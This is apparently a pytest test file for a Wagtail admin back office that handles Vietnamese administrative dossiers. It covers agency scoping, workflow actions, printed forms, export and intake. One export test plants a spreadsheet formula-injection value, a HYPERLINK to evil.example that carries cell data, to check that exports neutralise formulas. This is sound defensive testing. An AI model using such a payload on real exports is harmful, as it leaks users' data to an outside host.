"""One-stop back office in the Wagtail admin (issue 5 items 1 and 4): scope, list, dossier page,
actions, printed forms 01–06, export, counter intake, consultations.

Dates are worked out by hand from DOMAIN.md §4 and the 2026 calendar (days off: Sunday 26/4 Hùng
Kings' day, Monday 27/4 its substitute, Thursday 30/4, Friday 1/5 and the weekends). The
procedure of agency A has a 5-working-day time limit. A dossier accepted on Thursday 23/4/2026
at 10:00 counts 24/4 (1), 28/4 (2), 29/4 (3), 4/5 (4), 5/5 (5): due Tuesday 05/05/2026.
"""

import csv
import io
from datetime import date, timedelta

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group
from django.core.files.base import ContentFile
from django.urls import NoReverseMatch, reverse
from django.utils import timezone

from services.dossiers import backoffice, workflow
from services.dossiers.resources import formula_safe
from services.models import Dossier, DossierAttachment, DossierEvent
from tests.services.workflow_builders import (
    DESK,
    LEADER,
    PROCESSOR,
    PROVINCE_ADMIN,
    agency_a,
    agency_b,
    applicant,
    filed_dossier,
    officer,
    online_form,
    set_status,
    vn,
)

pytestmark = pytest.mark.django_db

INDEX = "/admin/ho-so/"
KEY = "6f1c2b8e-3d4a-4c5b-9e7f-0a1b2c3d4e5f"  # the intake form's hidden submission key
FILED = vn(2026, 4, 23, 9, 30)
ACCEPTED = vn(2026, 4, 23, 10, 0)


def detail_url(dossier) -> str:
    return f"/admin/ho-so/{dossier.code}/"


def form_url(dossier, number: str) -> str:
    return f"/admin/ho-so/{dossier.code}/mau/{number}/"


def text(response) -> str:
    return response.content.decode()


@pytest.fixture
def world(catalogue):
    """Agency A with a desk officer, a processing officer and a leader; agency B with a desk officer
    and a processing officer; a dossier filed online for each agency on 23/4/2026 at 09:30."""
    a, b = agency_a(), agency_b()
    form_a = online_form(catalogue, agency=a, time_limit=5)
    form_b = online_form(catalogue, agency=b, time_limit=5, code="2.000001")
    users = {
        "desk_a": officer(a, DESK, "desk-a", first_name="Nguyễn Thị Lan"),
        "processor_a": officer(a, PROCESSOR, "processor-a", first_name="Trần Văn Hùng"),
        "leader_a": officer(a, LEADER, "leader-a", first_name="Lê Quang Minh"),
        "desk_b": officer(b, DESK, "desk-b"),
        "processor_b": officer(b, PROCESSOR, "processor-b"),
        "province": officer(None, PROVINCE_ADMIN, "province"),
    }
    dossier_a = filed_dossier(form_a, now=FILED)
    dossier_b = filed_dossier(form_b, now=FILED, applicant_=applicant(name="Phạm Văn Cường", number="068190009999"))
    return {"a": a, "b": b, "form_a": form_a, "dossier_a": dossier_a, "dossier_b": dossier_b, **users}


def attach(dossier, name="Đơn đề nghị.pdf") -> DossierAttachment:
    content = b"%PDF-1.4\n%%EOF\n"
    return DossierAttachment.objects.create(
        dossier=dossier,
        component="Đơn đề nghị cấp giấy phép xây dựng",
        file=ContentFile(content, name="don.pdf"),
        original_name=name,
        content_type="application/pdf",
        size=len(content),
        sha256="0" * 64,
    )


def accepted(world, dossier=None):
    dossier = dossier or world["dossier_a"]
    return workflow.dossier_accept(dossier=dossier, user=world["desk_a"], now=ACCEPTED)


def as_user(client, user):
    client.force_login(user)
    return client


# -- scope ---------------------------------------------------------------------------------------


def test_list_shows_only_the_officers_agency_and_everything_to_the_province(client, world):
    a_code, b_code = world["dossier_a"].code, world["dossier_b"].code

    page = text(as_user(client, world["desk_b"]).get(INDEX))
    assert b_code in page and a_code not in page

    page = text(as_user(client, world["desk_a"]).get(INDEX))
    assert a_code in page and b_code not in page

    page = text(as_user(client, world["province"]).get(INDEX))
    assert a_code in page and b_code in page


def test_an_officer_of_another_agency_can_neither_open_nor_act_on_nor_download_a_dossier(client, world):
    dossier = world["dossier_a"]
    attachment = attach(dossier)
    accepted(world)
    client = as_user(client, world["desk_b"])

    assert client.get(detail_url(dossier)).status_code == 404
    assert client.get(f"/admin/ho-so/{dossier.code}/tep/{attachment.pk}/").status_code == 404
    for number in ("01", "05"):
        assert client.get(form_url(dossier, number)).status_code == 404
    assert client.get(f"/admin/ho-so/{dossier.code}/mau/01.pdf").status_code == 404
    # The public file and receipt URLs no longer open to any staff member: only to the scope.
    assert client.get(f"/ho-so/{dossier.code}/tep/{attachment.pk}/").status_code == 404
    assert client.get(f"/ho-so/{dossier.code}/bien-nhan/").status_code == 404

    response = client.post(f"/admin/ho-so/{dossier.code}/thao-tac/withdraw/", {"withdraw-reason": "Thử"})
    assert response.status_code == 404
    dossier.refresh_from_db()
    assert dossier.status.code == 2

    # An unknown code answers exactly alike.
    assert client.get("/admin/ho-so/000.00.12.H36-260423-9999/").status_code == 404


def test_the_agency_officer_downloads_the_file_from_the_admin_and_the_public_url(client, world):
    dossier = world["dossier_a"]
    attachment = attach(dossier)
    client = as_user(client, world["desk_a"])

    response = client.get(f"/admin/ho-so/{dossier.code}/tep/{attachment.pk}/")
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == b"%PDF-1.4\n%%EOF\n"
    assert "filename*=utf-8''%C4%90%C6%A1n%20%C4%91%E1%BB%81%20ngh%E1%BB%8B.pdf" in response["Content-Disposition"]
    assert "private" in response["Cache-Control"] and "no-store" in response["Cache-Control"]
    assert client.get(f"/ho-so/{dossier.code}/tep/{attachment.pk}/").status_code == 200
    # Another dossier's file id under this code: 404.
    other = attach(world["dossier_b"])
    assert client.get(f"/admin/ho-so/{dossier.code}/tep/{other.pk}/").status_code == 404


def test_staff_without_an_officer_profile_see_no_dossier(client, world):
    user = get_user_model().objects.create_user("editor", password="x")
    user.groups.add(Group.objects.get(name=DESK))
    client = as_user(client, user)
    assert client.get(detail_url(world["dossier_a"])).status_code == 404
    page = text(client.get(INDEX))
    assert world["dossier_a"].code not in page and world["dossier_b"].code not in page


def test_modeladmin_registers_only_its_list(world):
    assert reverse("ho-so_modeladmin_index") == INDEX
    for action in ("create", "edit", "delete", "inspect", "history"):
        with pytest.raises(NoReverseMatch):
            reverse(f"ho-so_modeladmin_{action}", args=[world["dossier_a"].pk])


# -- actions --------------------------------------------------------------------------------------


def action_names(response) -> set[str]:
    return {action.name for action, _form in response.context["action_forms"]}


def test_actions_shown_are_only_those_the_user_may_take_now(client, world):
    dossier = world["dossier_a"]
    desk = as_user(client, world["desk_a"]).get(detail_url(dossier))
    assert action_names(desk) == {"accept", "request_supplement", "refuse", "withdraw"}
    assert 'action="/admin/ho-so/' + dossier.code + '/thao-tac/accept/"' in text(desk)
    assert "csrfmiddlewaretoken" in text(desk)

    assert action_names(as_user(client, world["processor_a"]).get(detail_url(dossier))) == set()

    accepted(world)
    assert action_names(as_user(client, world["processor_a"]).get(detail_url(dossier))) == {"assign"}
    # No apology: it must come at least 1 working day before the due date, 5/5/2026, long past.
    assert action_names(as_user(client, world["leader_a"]).get(detail_url(dossier))) == {"assign", "stop"}
    assert action_names(as_user(client, world["desk_a"]).get(detail_url(dossier))) == {"withdraw"}


def test_accepting_through_the_admin_moves_the_dossier_and_offers_form_01(client, world):
    dossier = world["dossier_a"]
    client = as_user(client, world["desk_a"])
    response = client.post(f"/admin/ho-so/{dossier.code}/thao-tac/accept/", {"accept-note": "Đủ giấy tờ"})
    assert response.status_code == 302 and response["Location"] == detail_url(dossier)
    dossier.refresh_from_db()
    assert dossier.status.code == 2
    event = dossier.events.get(action="accept")
    assert (event.actor, event.note) == (world["desk_a"], "Đủ giấy tờ")

    page = text(client.get(detail_url(dossier)))
    assert "Tiếp nhận hồ sơ: đã thực hiện cho hồ sơ" in page
    assert form_url(dossier, "01") in page
    assert form_url(dossier, "02") not in page  # no supplement request: no form 02


def test_action_the_user_lacks_is_refused_as_permission_denied(client, world):
    """The workflow's PermissionDenied is the admin's: back to the dashboard with Wagtail's message."""
    dossier = world["dossier_a"]
    response = as_user(client, world["processor_a"]).post(f"/admin/ho-so/{dossier.code}/thao-tac/accept/", {})
    assert (response.status_code, response["Location"]) == (302, "/admin/")
    dossier.refresh_from_db()
    assert dossier.status.code == 1


def test_refused_transition_and_invalid_input_are_shown_as_messages(client, world):
    dossier = world["dossier_a"]
    client = as_user(client, world["desk_a"])

    response = client.post(f"/admin/ho-so/{dossier.code}/thao-tac/refuse/", {"refuse-reason": ""})
    assert response.status_code == 400
    assert "Từ chối tiếp nhận hồ sơ: hãy sửa các lỗi bên dưới." in text(response)

    accepted(world)
    # Accepting twice: the workflow refuses with its Vietnamese message, shown after the redirect.
    response = client.post(f"/admin/ho-so/{dossier.code}/thao-tac/accept/", {}, follow=True)
    assert "Không thể tiếp nhận hồ sơ đang ở trạng thái “Đã tiếp nhận”." in text(response)
    assert DossierEvent.objects.filter(dossier=dossier, action="accept").count() == 1


def test_assign_form_offers_only_the_agencys_processing_officers(client, world):
    accepted(world)
    response = as_user(client, world["leader_a"]).get(detail_url(world["dossier_a"]))
    form = dict(response.context["action_forms"]).get(workflow.TRANSITIONS["assign"])
    assert form is not None
    assert set(form.fields["assignee"].queryset) == {world["processor_a"], world["leader_a"]}


def test_consultation_is_answered_by_the_consulted_agency_from_its_inbox(client, world):
    dossier = accepted(world)
    workflow.dossier_assign(dossier=dossier, user=world["leader_a"], assignee=world["processor_a"], now=ACCEPTED)
    consultation = workflow.dossier_consult(
        dossier=dossier,
        user=world["processor_a"],
        agency=world["b"],
        question="Đề nghị cho ý kiến về chỉ giới xây dựng",
        due_date=date(2026, 4, 29),
        now=vn(2026, 4, 24, 9),
    )
    inbox = text(as_user(client, world["processor_b"]).get("/admin/ho-so/xin-y-kien/"))
    assert "Đề nghị cho ý kiến về chỉ giới xây dựng" in inbox and dossier.code in inbox
    assert "Đề nghị cho ý kiến" not in text(as_user(client, world["desk_a"]).get("/admin/ho-so/xin-y-kien/"))

    response = as_user(client, world["processor_b"]).post(
        f"/admin/ho-so/xin-y-kien/{consultation.pk}/tra-loi/", {"answer": "Thống nhất"}
    )
    assert response.status_code == 302
    consultation.refresh_from_db()
    assert consultation.answer == "Thống nhất"
    assert "Thống nhất" in text(as_user(client, world["processor_a"]).get(detail_url(dossier)))


# -- printed forms ----------------------------------------------------------------------------------


def test_form_01_prints_the_receipt_with_the_due_date_and_the_receiver(client, world):
    dossier = accepted(world)
    page = text(as_user(client, world["desk_a"]).get(form_url(dossier, "01")))
    assert "Giấy tiếp nhận hồ sơ và hẹn trả kết quả" in page
    assert "size: A5" in page
    assert dossier.code in page
    assert "Thứ Ba, 05/05/2026" in page
    assert "Nguyễn Thị Lan" in page  # the desk officer who received it
    assert "068190004321" not in page and "********4321" in page


def test_form_02_lists_every_missing_item(client, world):
    dossier = world["dossier_a"]
    client = as_user(client, world["desk_a"])
    assert client.get(form_url(dossier, "02")).status_code == 404
    workflow.dossier_request_supplement(
        dossier=dossier,
        user=world["desk_a"],
        missing=["Bản sao giấy chứng nhận quyền sử dụng đất", "Bản vẽ mặt bằng có chữ ký"],
        now=ACCEPTED,
    )
    page = text(client.get(form_url(dossier, "02")))
    assert "Phiếu yêu cầu bổ sung, hoàn thiện hồ sơ" in page
    assert "<li>Bản sao giấy chứng nhận quyền sử dụng đất</li>" in page
    assert "<li>Bản vẽ mặt bằng có chữ ký</li>" in page
    assert "Lâm Đồng, ngày 23 tháng 04 năm 2026" in page
    assert form_url(dossier, "02") in text(client.get(detail_url(dossier)))


def test_form_03_prints_the_refusal_reason(client, world):
    dossier = world["dossier_a"]
    workflow.dossier_refuse(
        dossier=dossier, user=world["desk_a"], reason="Thủ tục không thuộc thẩm quyền của Sở", now=ACCEPTED
    )
    page = text(as_user(client, world["desk_a"]).get(form_url(dossier, "03")))
    assert "Phiếu từ chối tiếp nhận giải quyết hồ sơ" in page
    assert "Thủ tục không thuộc thẩm quyền của Sở" in page
    assert "size: A4" in page


def test_form_04_prints_old_and_new_due_dates_and_the_reason(client, world):
    dossier = accepted(world)
    client = as_user(client, world["leader_a"])
    assert client.get(form_url(dossier, "04")).status_code == 404
    # 28/4 is 3 working days before the due date 5/5 (29/4, 4/5, 5/5): at least 1, allowed.
    workflow.dossier_apologise(
        dossier=dossier,
        user=world["leader_a"],
        reason="Chờ kết quả đo đạc hiện trạng",
        new_due_date=date(2026, 5, 8),
        now=vn(2026, 4, 28, 9),
    )
    assert "Hẹn mới: 08/05/2026" in text(client.get(detail_url(dossier)))  # the timeline, dd/mm/yyyy
    page = text(client.get(form_url(dossier, "04")))
    assert "Phiếu xin lỗi và hẹn lại ngày trả kết quả" in page
    assert "<dd data-old-due>05/05/2026</dd>" in page
    assert "<strong data-new-due>08/05/2026</strong>" in page
    assert "Chờ kết quả đo đạc hiện trạng" in page
    assert "Lê Quang Minh" in page


def test_form_05_shows_each_hand_over_with_its_timeliness(client, world):
    """Accepted 23/4 10:00 (due 5/5); assigned 24/4 09:00 with the step due 29/4; result ready
    4/5 10:00 (the step ends after 29/4: late); returned 5/5 08:00 (the due date: on time)."""
    dossier = accepted(world)
    workflow.dossier_assign(
        dossier=dossier,
        user=world["leader_a"],
        assignee=world["processor_a"],
        step_due_date=date(2026, 4, 29),
        now=vn(2026, 4, 24, 9),
    )
    workflow.dossier_result_ready(dossier=dossier, user=world["leader_a"], now=vn(2026, 5, 4, 10))
    workflow.dossier_return(dossier=dossier, user=world["desk_a"], now=vn(2026, 5, 5, 8))

    response = as_user(client, world["desk_a"]).get(form_url(dossier, "05"))
    rows = response.context["rows"]
    assert [(r.label, r.giver, r.receiver) for r in rows] == [
        ("Tiếp nhận hồ sơ", "Trần Thị Bình", "Nguyễn Thị Lan"),
        ("Chuyển xử lý", "Lê Quang Minh", "Trần Văn Hùng"),
        ("Có kết quả, chuyển trả", "Lê Quang Minh", "Bộ phận Tiếp nhận và Trả kết quả"),
        ("Trả kết quả", "Nguyễn Thị Lan", "Trần Thị Bình"),
    ]
    assert [r.step_due_date for r in rows] == [None, date(2026, 4, 29), date(2026, 5, 5), date(2026, 5, 5)]
    assert [r.timeliness for r in rows] == [None, "late", "on_time", "on_time"]
    page = text(response)
    assert "Phiếu kiểm soát quá trình giải quyết hồ sơ" in page
    assert "09:00<br>24/04/2026" in page and "Quá hạn" in page and "Đúng hạn" in page


def test_form_06_ledger_lists_the_agencys_dossiers_of_the_period(client, world):
    dossier = accepted(world)
    workflow.dossier_assign(dossier=dossier, user=world["leader_a"], assignee=world["processor_a"], now=ACCEPTED)
    workflow.dossier_result_ready(dossier=dossier, user=world["leader_a"], now=vn(2026, 4, 29, 10))
    workflow.dossier_return(dossier=dossier, user=world["desk_a"], now=vn(2026, 4, 29, 15))
    client = as_user(client, world["desk_a"])

    response = client.get("/admin/ho-so/so-theo-doi/", {"tu": "2026-04-01", "den": "2026-04-30"})
    page = text(response)
    assert "Sổ theo dõi hồ sơ" in page and "A4 landscape" in page
    assert [row.dossier for row in response.context["rows"]] == [dossier]
    assert world["dossier_b"].code not in page
    assert "15:00 29/04/2026" in page  # returned
    assert "Sớm hạn" in page  # result 29/4 before the due date 5/5
    assert "Trần Thị Bình" in page

    response = client.get("/admin/ho-so/so-theo-doi/", {"tu": "2026-05-01", "den": "2026-05-31"})
    assert response.context["rows"] == []
    response = client.get("/admin/ho-so/so-theo-doi/", {"tu": "2026-05-01", "den": "2026-04-01"})
    assert "Ngày kết thúc phải sau ngày bắt đầu." in text(response)


# -- list filters and export --------------------------------------------------------------------------


def test_timeliness_filter_follows_the_due_date_and_today(client, world):
    """Filtered in the database, computed per row in Python: both say the same of each dossier."""
    today = timezone.localdate()
    now = timezone.now()
    form = world["form_a"]
    cases = {
        "late": set_status(world["dossier_a"], 4, due_date=today - timedelta(days=1)),
        "on_time": set_status(filed_dossier(form, now=FILED), 4, due_date=today + timedelta(days=3)),
        "early": set_status(filed_dossier(form, now=FILED), 9, due_date=today, finished_at=now - timedelta(days=2)),
        # Suspended for a supplement before its due date: the time limit does not run.
        "paused": set_status(
            filed_dossier(form, now=FILED), 5, due_date=today - timedelta(days=1), paused_at=now - timedelta(days=3)
        ),
        # Refused: closed without a result, no timeliness at all.
        "refused": set_status(filed_dossier(form, now=FILED), 3, due_date=today - timedelta(days=5)),
    }
    client = as_user(client, world["desk_a"])

    def listed(value):
        page = text(client.get(INDEX, {"tien_do": value}))
        return {name for name, d in cases.items() if f"/admin/ho-so/{d.code}/" in page}

    assert listed("late") == {"late"}
    assert listed("on_time") == {"on_time", "paused"}
    assert listed("early") == {"early"}
    computed = {name: backoffice.dossier_timeliness(d, today=today) for name, d in cases.items()}
    assert computed == {"late": "late", "on_time": "on_time", "early": "early", "paused": "on_time", "refused": None}


def test_received_period_and_procedure_filters(client, world):
    today_dossier = filed_dossier(world["form_a"], now=timezone.now())
    client = as_user(client, world["desk_a"])
    page = text(client.get(INDEX, {"ky": "hom-nay"}))
    assert f"/admin/ho-so/{today_dossier.code}/" in page
    assert f"/admin/ho-so/{world['dossier_a'].code}/" not in page  # filed 23/4/2026

    page = text(client.get(INDEX, {"thu_tuc": "1.009994"}))
    assert f"/admin/ho-so/{world['dossier_a'].code}/" in page
    # The procedure filter offers only procedures of the officer's own dossiers.
    page_b = text(as_user(client, world["desk_b"]).get(INDEX))
    assert "thu_tuc=2.000001" in page_b and "thu_tuc=1.009994" not in page_b


def test_search_by_applicant_name_and_id_number(client, world):
    client = as_user(client, world["province"])
    page = text(client.get(INDEX, {"q": "Cường"}))
    assert world["dossier_b"].code in page and world["dossier_a"].code not in page
    page = text(client.get(INDEX, {"q": "068190004321"}))
    assert world["dossier_a"].code in page and world["dossier_b"].code not in page
    # As officers type: without accents, any case, id number with spaces, part of the code.
    for query in ("pham van cuong", "PHẠM VĂN", "cuong", "0681 9000 9999", "000.00.20.H36"):
        page = text(client.get(INDEX, {"q": query}))
        assert world["dossier_b"].code in page and world["dossier_a"].code not in page, query
    page = text(client.get(INDEX, {"q": "tran thi binh"}))  # dossier A's applicant, Trần Thị Bình
    assert world["dossier_a"].code in page and world["dossier_b"].code not in page


def read_csv(response) -> list[list[str]]:
    body = response.content
    assert body.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_export_is_the_officers_filtered_list_in_csv_with_bom_and_xlsx(client, world):
    accepted(world)
    filed_dossier(world["form_a"], now=FILED)  # a second dossier of A, still new (status 1)
    client = as_user(client, world["desk_a"])

    rows = read_csv(client.get(INDEX, {"export": "csv"}))
    assert rows[0][:3] == ["Mã hồ sơ", "Người nộp", "Mã thủ tục"]
    codes = {row[0] for row in rows[1:]}
    assert world["dossier_a"].code in codes and world["dossier_b"].code not in codes
    assert len(codes) == 2

    status_2 = world["dossier_a"].status.__class__.objects.get(code=2)
    rows = read_csv(client.get(INDEX, {"export": "csv", "status__id__exact": status_2.pk}))
    assert [row[0] for row in rows[1:]] == [world["dossier_a"].code]
    assert rows[1][rows[0].index("Hẹn trả kết quả")] == "05/05/2026"
    assert rows[1][rows[0].index("Trạng thái")] == "Đã tiếp nhận"

    response = client.get(INDEX, {"export": "xlsx"})
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert sheet["A1"].value == "Mã hồ sơ"
    assert {sheet.cell(row=r, column=1).value for r in range(2, sheet.max_row + 1)} == codes

    rows = read_csv(as_user(client, world["desk_b"]).get(INDEX, {"export": "csv"}))
    assert [row[0] for row in rows[1:]] == [world["dossier_b"].code]


def test_export_never_writes_a_formula(client, world):
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
    Dossier.objects.filter(pk=world["dossier_a"].pk).update(applicant_name=hostile)
    client = as_user(client, world["desk_a"])

    rows = read_csv(client.get(INDEX, {"export": "csv"}))
    assert rows[1][1] == "'" + hostile

    sheet = openpyxl.load_workbook(io.BytesIO(client.get(INDEX, {"export": "xlsx"}).content)).active
    cell = sheet["B2"]
    assert cell.data_type == "s"
    assert cell.value == "'" + hostile


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("==1+1", "'==1+1"),
        ("+84912345678", "'+84912345678"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("  =1", "'  =1"),
        ("Nguyễn Văn An", "Nguyễn Văn An"),
        ("05/05/2026", "05/05/2026"),
        (12, 12),
    ],
)
def test_formula_safe(value, expected):
    assert formula_safe(value) == expected


# -- counter and postal intake ---------------------------------------------------------------------------


def test_intake_finds_the_procedure_by_code_and_creates_an_accepted_paper_dossier(client, world):
    procedure = world["form_a"].procedure
    client = as_user(client, world["desk_a"])

    page = text(client.get("/admin/ho-so/tiep-nhan/", {"q": procedure.code}))
    assert procedure.title in page
    url = f"/admin/ho-so/tiep-nhan/{procedure.pk}/0/"
    assert url in page

    form = client.get(url).context["form"]
    assert [name for name, _label in form.fields["components"].choices] == ["Giấy tờ số 1"]

    response = client.post(
        url,
        {
            "channel": "post",
            "agency": world["a"].pk,
            "applicant_name": "Hoàng  Văn Dũng",
            "applicant_id_type": "cccd",
            "applicant_id_number": "068 090 005 678",
            "applicant_phone": "0912 345 678",
            "applicant_province": "Lâm Đồng",
            "components": ["Giấy tờ số 1"],
            "other_components": "Bản sao giấy phép kinh doanh\n",
            "submission_key": KEY,
        },
    )
    dossier = Dossier.objects.get(applicant_id_number="068090005678")
    assert response.status_code == 302 and response["Location"] == detail_url(dossier)
    assert dossier.code.startswith("000.00.12.H36-")
    assert (dossier.channel, dossier.status.code, dossier.applicant_name) == ("post", 2, "Hoàng Văn Dũng")
    assert dossier.events.get().data["components"] == ["Giấy tờ số 1", "Bản sao giấy phép kinh doanh"]

    page = text(client.get(form_url(dossier, "01")))
    assert "Bản sao giấy phép kinh doanh" in page and "Bản giấy" in page


def test_intake_needs_a_component_and_the_desk_permission(client, world):
    procedure = world["form_a"].procedure
    url = f"/admin/ho-so/tiep-nhan/{procedure.pk}/0/"
    response = as_user(client, world["desk_a"]).post(
        url,
        {
            "channel": "in_person",
            "agency": world["a"].pk,
            "applicant_name": "Hoàng Văn Dũng",
            "applicant_id_type": "cccd",
            "applicant_id_number": "068090005678",
            "submission_key": KEY,
        },
    )
    assert response.status_code == 200
    assert "Đánh dấu ít nhất một thành phần hồ sơ đã nhận." in text(response)
    assert not Dossier.objects.filter(applicant_id_number="068090005678").exists()

    response = as_user(client, world["processor_a"]).get("/admin/ho-so/tiep-nhan/")
    assert (response.status_code, response["Location"]) == (302, "/admin/")  # Wagtail's permission denied


def test_intake_sent_twice_creates_one_dossier(client, world):
    procedure = world["form_a"].procedure
    url = f"/admin/ho-so/tiep-nhan/{procedure.pk}/0/"
    client = as_user(client, world["desk_a"])
    assert "submission_key" in text(client.get(url))
    data = {
        "channel": "in_person",
        "agency": world["a"].pk,
        "applicant_name": "Hoàng Văn Dũng",
        "applicant_id_type": "cccd",
        "applicant_id_number": "068090005678",
        "components": ["Giấy tờ số 1"],
        "submission_key": KEY,
    }
    first, second = client.post(url, data), client.post(url, data)
    dossier = Dossier.objects.get(applicant_id_number="068090005678")
    assert first["Location"] == second["Location"] == detail_url(dossier)
    assert dossier.events.count() == 1


def test_intake_refuses_a_procedure_of_another_tier(world):
    """Sở Xây dựng (provincial tier) cannot take in a procedure carried out by communes only."""
    from services.dossiers.services import Applicant
    from services.models import AdministrativeTier

    procedure = world["form_a"].procedure
    commune, _ = AdministrativeTier.objects.get_or_create(code="commune", defaults={"name": "Cấp xã"})
    province, _ = AdministrativeTier.objects.get_or_create(code="province", defaults={"name": "Cấp tỉnh"})
    world["a"].tier = province
    world["a"].save(update_fields=["tier"])
    procedure.tiers.set([commune])
    procedure.save_revision().publish()
    with pytest.raises(workflow.WorkflowError, match="không thực hiện ở cấp của Sở Xây dựng"):
        workflow.dossier_intake(
            procedure=procedure,
            agency=world["a"],
            channel="in_person",
            applicant=Applicant(name="Hoàng Văn Dũng", id_type="cccd", id_number="068090005678"),
            user=world["desk_a"],
            components=["Đơn"],
        )
    assert not Dossier.objects.filter(applicant_id_number="068090005678").exists()


@pytest.mark.parametrize(
    "query",
    [{"foo": "bar"}, {"status__id__exact": "abc"}, {"agency": "17"}, {"foo": "bar", "export": "csv"}],
)
def test_list_with_an_invalid_filter_shows_the_whole_list_again(client, world, query):
    response = as_user(client, world["desk_a"]).get(INDEX, query, follow=True)
    assert response.redirect_chain == [(INDEX, 302)]
    page = text(response)
    assert "Bộ lọc trong địa chỉ trang không hợp lệ; đã hiện lại toàn bộ danh sách." in page
    assert detail_url(world["dossier_a"]) in page


def test_officer_names_are_written_family_name_first(world):
    from django.contrib.auth import get_user_model

    from services.dossiers.selectors import person_name

    user = get_user_model()(username="lan", first_name="Lan", last_name="Nguyễn Thị")
    assert person_name(user) == "Nguyễn Thị Lan"
    assert person_name(get_user_model()(username="motcua")) == "motcua"
    assert person_name(None) == ""


def test_province_administrator_ties_an_officer_to_an_agency_in_the_admin(client, world):
    """Cán bộ và cơ quan (Danh mục dùng chung): a new desk officer gets agency B, then sees B's dossier."""
    from django.contrib.auth.models import Group

    from services.models import OfficerProfile

    User = get_user_model()
    newcomer = User.objects.create_user(username="motcua-moi", password="x", first_name="Hà", last_name="Trần Thu")
    newcomer.groups.add(Group.objects.get(name=DESK))
    client = as_user(client, world["province"])
    index = reverse("services_officerprofile_modeladmin_index")
    assert "Trần Thu Hà" not in text(client.get(index))
    assert "chưa được gắn với cơ quan nào" in text(as_user(client, newcomer).get(INDEX))
    client = as_user(client, world["province"])
    response = client.post(
        reverse("services_officerprofile_modeladmin_create"), {"user": newcomer.pk, "agency": world["b"].pk}
    )
    assert response.status_code == 302
    assert OfficerProfile.objects.get(user=newcomer).agency == world["b"]
    assert "Trần Thu Hà" in text(client.get(index))
    listing = text(as_user(client, newcomer).get(INDEX))
    assert "chưa được gắn với cơ quan nào" not in listing
    assert detail_url(world["dossier_b"]) in listing and detail_url(world["dossier_a"]) not in listing
    # Desk officers cannot change who works where.
    assert as_user(client, world["desk_a"]).get(index).status_code == 302
